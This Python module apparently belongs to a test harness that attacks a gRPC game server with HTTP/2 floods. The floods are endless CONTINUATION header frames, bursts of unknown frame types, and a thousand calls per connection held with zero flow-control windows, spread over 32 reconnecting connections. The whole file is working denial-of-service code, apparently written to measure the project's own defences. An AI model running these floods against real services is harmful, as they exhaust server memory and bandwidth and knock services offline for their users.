"""Attacks on gRPC's core, which its settings do not bound: frames without a call, answers behind shut windows."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress

from podesta.v1 import game_master_pb2 as pb

from .attacker import Attacker
from .http2 import CONTINUATION, begun, frame, greeting, message, packed
from .world import ATTACKER, keyed

CONNECTIONS = 32
RATE = 50_000_000
"""Bytes of heads per second, on all connections together."""
_UNKNOWN = 0xFA
"""A frame type that HTTP/2 does not define, so that it must be ignored."""
_STREAMS = 1_000
"""Calls per connection."""
_UPDATES = "/podesta.v1.GameMaster/ListUpdates"


async def _pour(by: Attacker, seconds: float, first: bytes, piece: bytes, rate: float) -> None:
    """Write a piece repeatedly on one connection, at this many bytes per second, until it is closed."""
    began = time.monotonic()
    sent = 0
    try:
        _, writer = await asyncio.open_connection(*by.world.grpc_address, local_addr=(ATTACKER, 0))
        by.answers["connected"] += 1
        writer.write(first)
        while (passed := time.monotonic() - began) < seconds:
            writer.write(piece)
            sent += len(piece)
            await asyncio.wait_for(writer.drain(), seconds - passed)
            await asyncio.sleep(max(0.0, sent / rate - (time.monotonic() - began)))
        writer.close()
    except (TimeoutError, OSError):
        by.answers["let go"] += 1
    by.sent += sent


async def _again(by: Attacker, seconds: float, first: bytes, piece: bytes, rate: float) -> None:
    """The same on many connections, each reopened when it is closed."""
    until = time.monotonic() + seconds

    async def again() -> None:
        while (left := until - time.monotonic()) > 0:
            await _pour(by, left, first, piece, rate / CONNECTIONS)
            await asyncio.sleep(0.01)

    await asyncio.gather(*(again() for _ in range(CONNECTIONS)))


async def endless_heads(by: Attacker, seconds: float) -> None:
    """Heads that continue in CONTINUATION frames as long as they are accepted."""
    more = frame(CONTINUATION, 0, 1, packed([("a", "b" * 100)] * 150)[:16_000])
    await _again(by, seconds, greeting(65_535) + begun(1, _UPDATES, end=False), more * 8, RATE)


async def unknown_frames(by: Attacker, seconds: float) -> None:
    """Frames of an unknown type, as fast as they are accepted."""
    await _again(by, seconds, greeting(65_535), frame(_UNKNOWN, 0, 0, bytes(16_384)) * 32, float("inf"))


async def shut_windows(by: Attacker, seconds: float) -> None:
    """As many calls as an address may have open, without reading any of their answers."""
    game = {"ruleset": "colonia", "seats": [{"name": str(seat), "claim": True} for seat in range(6)]}
    made = (await by.http.post("/v1/games", json=game, headers=keyed())).json()["game"]["game"]
    request = pb.ListUpdatesRequest(game=made).SerializeToString()  # its answer has 13 KB; up to 16 KB are not counted
    numbers = range(1, 2 * _STREAMS, 2)
    calls = b"".join(begun(each, _UPDATES) + message(each, request) for each in numbers)

    async def hold() -> None:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(*by.world.grpc_address, local_addr=(ATTACKER, 0))
            by.answers["connected"] += 1
            writer.write(greeting(0) + calls)
            by.sent += len(calls)
            await asyncio.sleep(seconds)
            writer.close()

    await asyncio.gather(*(hold() for _ in range(CONNECTIONS)))


FLOODING: dict[str, Callable[[Attacker, float], Awaitable[None]]] = {
    "CONTINUATION, 50 MB/s": endless_heads,
    "unknown frames": unknown_frames,
    "windows kept shut": shut_windows,
}
"""These attacks by name: made if gRPC has no front door, and through one (`--front`)."""
